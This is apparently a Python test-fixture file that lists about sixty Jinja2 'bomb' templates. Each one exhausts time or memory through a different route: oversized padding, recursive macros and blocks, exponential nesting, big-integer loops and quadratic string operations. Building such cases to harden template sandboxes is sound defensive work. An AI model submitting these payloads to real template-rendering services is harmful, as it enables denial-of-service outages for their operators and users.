"""More bombs: each tries to grow time or memory through another door of jinja2."""

from typing import Final

MORE_BOMBS: Final = {
    "markup center": ("{{ ('a'|safe).center(4000000000)|length }}"),
    "markup replace": (
        "{% set ns = namespace(s=('a'|safe)) %}{% for i in range(60) %}{% set ns.s = ns.s.replace('"
        "a','aa') %}{% endfor %}"
    ),
    "markup splitloop": (
        "{% set s=('a,'*1000000)|safe %}{% for i in range(99999) %}{% set t=s.split(',') %}{% endfor %}"
    ),
    "markup unescape": (
        "{% set s=('&lt;'*1000000)|safe %}{% for i in range(99999) %}{% set t=s.unescape() %}{% endfor %}"
    ),
    "markup striptags": (
        "{% set s=('<'*100000)|safe %}{% for i in range(99999) %}{% set t=s.striptags() %}{% endfor %}"
    ),
    "escape growth": (
        "{% set ns = namespace(s='&') %}{% for i in range(60) %}{% set ns.s = (ns.s|e|string|forcee"
        "scape) %}{% endfor %}"
    ),
    "escape concat": (
        "{% set ns = namespace(s=('&'|safe)) %}{% for i in range(100000) %}{% set ns.s = ns.s + ('&"
        "'*1000000) %}{% endfor %}"
    ),
    "loop changed": (
        "{% set ns=namespace(l=[1],m=[1]) %}{% for i in range(60) %}{% set ns.l=[ns.l,ns.l] %}{% se"
        "t ns.m=[ns.m,ns.m] %}{% endfor %}{% for x in [ns.l,ns.m] %}{{ loop.changed(x) }}{% endfor "
        "%}"
    ),
    "sort nested": (
        "{% set ns=namespace(l=(1,),m=(1,)) %}{% for i in range(60) %}{% set ns.l=(ns.l,ns.l) %}{% "
        "set ns.m=(ns.m,ns.m) %}{% endfor %}{{ [ns.l,ns.m]|sort|length }}"
    ),
    "groupby nested": (
        "{% set ns=namespace(l=(1,),m=(1,)) %}{% for i in range(60) %}{% set ns.l=(ns.l,ns.l) %}{% "
        "set ns.m=(ns.m,ns.m) %}{% endfor %}{{ [{'a':ns.l},{'a':ns.m}]|groupby('a')|list|length }}"
    ),
    "undefined name nested": (
        "{% set ns=namespace(l=[1]) %}{% for i in range(60) %}{% set ns.l=[ns.l,ns.l] %}{% endfor %"
        "}{{ messages[ns.l] }}"
    ),
    "cycler items eq": (
        "{% set ns=namespace(l=1,m=1) %}{% for i in range(60) %}{% set ns.l=cycler(ns.l,ns.l).items"
        " %}{% set ns.m=cycler(ns.m,ns.m).items %}{% endfor %}{{ ns.l == ns.m }}"
    ),
    "varargs nest": (
        "{% macro f() %}{% set ns.l=varargs %}{% endmacro %}{% set ns=namespace(l=1) %}{% for i in "
        "range(60) %}{{ f(ns.l,ns.l) }}{% endfor %}{{ ns.l|string|length }}"
    ),
    "star args": ("{% macro f() %}{{ f(*varargs, *varargs) }}{% endmacro %}{{ f(1,2) }}"),
    "caller rec": (
        "{% macro f(n) %}{{ caller() }}{{ caller() }}{% endmacro %}{% macro g(n) %}{% if n %}{% cal"
        "l f(n) %}{{ g(n-1) }}{% endcall %}{% endif %}{% endmacro %}{{ g(60) }}"
    ),
    "loop recursive wide": (
        "{% for x in range(99999) recursive %}{{ loop(range(99999)) if loop.depth<3 }}{% endfor %}"
    ),
    "block self2": (
        "{% block a %}{% if true %}{{ self.b() }}{{ self.b() }}{% endif %}{% endblock %}{% block b "
        "%}{{ self.a() }}{% endblock %}"
    ),
    "setblock double": (
        "{% set ns=namespace(s='a') %}{% for i in range(60) %}{% set x %}{{ ns.s }}{{ ns.s }}{% end"
        "set %}{% set ns.s=x %}{% endfor %}"
    ),
    "filter block double": (
        "{% macro f(n) %}{% filter upper %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% else %}aaaaaaaa{% e"
        "ndif %}{% endfilter %}{% endmacro %}{{ f(60) }}"
    ),
    "mul loop": ("{% set a=2**60000 %}{% for i in range(999999) %}{% set b=(a*3)//7 %}{% endfor %}"),
    "floordiv": ("{% set a=2**65000 %}{% set b=3**20000 %}{% for i in range(99999) %}{% set c=a//b %}{% endfor %}"),
    "int print big": ("{% set a=16**16000 %}{% for i in range(99999) %}{{ a }}{% endfor %}"),
    "format repeat": ("{{ ('{0}'*1000000).format('a'*100000)|length }}"),
    "percent repeat": ("{{ (('%(a)s')*1000000) % {'a':'b'*100000} }}"),
    "attr format": ("{{ ('{:>4000000000}'|attr('format'))('x') }}"),
    "map center": ("{{ ['a']|map('center', 4000000000)|list|length }}"),
    "map replace": ("{{ ['a'*100000]|map('replace','a','b'*100000)|list|length }}"),
    "wordwrap wrapstring": ("{{ ('a '*60000)|wordwrap(1,true,'b'*1000000)|length }}"),
    "urlize target": ("{{ ('http://a.bc '*9999)|urlize(target='x'*1000000)|length }}"),
    "xmlattr many": ("{{ dict.fromkeys(range(99999)|map('string'), 'a'*99999)|xmlattr|length }}"),
    "batch fill": ("{{ [1]|batch(1000000000,0)|list|length }}"),
    "slice fill": ("{{ [1]|slice(10000000,'a'*100)|list|length }}"),
    "groupby default": (
        "{% set l=[{}]*99999 %}{% for i in range(9999) %}{% set x=l|groupby('a',default='b'*99999) %}{% endfor %}"
    ),
    "range in": ("{% for i in range(99999) %}{% set x=1.5 in range(99999) %}{% endfor %}"),
    "keys isdisjoint": (
        "{% set d=dict.fromkeys(range(9999),0) %}{% set e=range(9999,99999) %}{% for i in range(999"
        "99) %}{% set x=d.keys().isdisjoint(e) %}{% endfor %}"
    ),
    "hash collide map": (
        "{% set m=2**61-1 %}{% macro g(i) %}{{ i*m }}{% endmacro %}{{ dict.fromkeys(range(99999)|ma"
        "p('string')|map('int'))|length }}{% set t %}{% for i in range(30000) %}{{ i*m }} {% endfor"
        " %}{% endset %}{{ dict.fromkeys(t.split()|map('int'))|length }}"
    ),
    "bytes join": ("{% set b=('a'*100000).encode() %}{{ b.join([b]*99999)|length }}"),
    "maketrans": ("{{ ('a'*100000).translate(''.maketrans({'a':'b'*100000}))|length }}"),
    "encode punycode2": (
        "{% set t %}{% for i in range(60000) %}{{ '%c' % (i+200) }}{% endfor %}{% endset %}{{ t.enc"
        "ode('punycode')|length }}"
    ),
    "strip chars2": ("{% set s='ā'*3000000 %}{% set t=('bcdefghij'*30000)~'ā' %}{{ s.strip(t)|length }}"),
    "lstrip filter": ("{% set s='ā'*1000000 %}{% set t=('bcdefghij'*30000)~'ā' %}{{ s|trim(t)|length }}"),
    "rfind quadratic": ("{% set s='a'*3000000 %}{% set t='b'~('a'*1500000) %}{{ s.rfind(t) }}"),
    "indent first": ("{{ ('\n'*1000000)|indent('a'*100000, true, true)|length }}"),
    "splitlines indent": ("{{ ('\x0b'*3000000)|indent(1000, blank=true)|length }}"),
    "pprint loop": ("{% set l=range(9999)|list %}{% for i in range(99) %}{% set x=l|pprint %}{% endfor %}"),
    "strftime many": ("{% for i in range(99999) %}{% set x=strftime_now('%c'*10000) %}{% endfor %}"),
    "lipsum n": ("{{ lipsum(n=100000000) }}"),
    "sum gen lists": ("{% set l=[[1]*1000]*9999 %}{{ l|map('default')|sum(start=[])|length }}"),
    "joiner sep": ("{% set j=joiner('a'*9000000) %}{% for i in range(999) %}{% set x=j() %}{{ x }}{% endfor %}"),
    "startswith tuple": (
        "{% set l=('b',)*300000 %}{% for i in range(99999) %}{% set x='a'.startswith(l) %}{% endfor %}"
    ),
    "map chain": (
        "{% set ns=namespace(g=range(99999)) %}{% for i in range(900) %}{% set ns.g=ns.g|map('defau"
        "lt') %}{% endfor %}{{ ns.g|list|length }}"
    ),
    "selectattr deep": (
        "{% set ns=namespace(d=1) %}{% for i in range(50) %}{% set ns.d={'a':ns.d} %}{% endfor %}{%"
        " for i in range(99999) %}{% set x=([ns.d]*1000)|map(attribute='a'+'.a'*49)|list %}{% endfo"
        "r %}"
    ),
    "list slice keep": (
        "{% set ns=namespace(a=[]) %}{% set l=range(99999)|list %}{% for i in range(999) %}{% set n"
        "s.a=ns.a+[l[1:]] %}{% endfor %}"
    ),
    "dict star builtin": ("{% for i in range(99999) %}{{ ''.format(*range(99999)) }}{% endfor %}"),
    "list of unique chars": ("{% set s='一'*2000000 %}{% set x=s|list %}{{ x|length }}"),
}
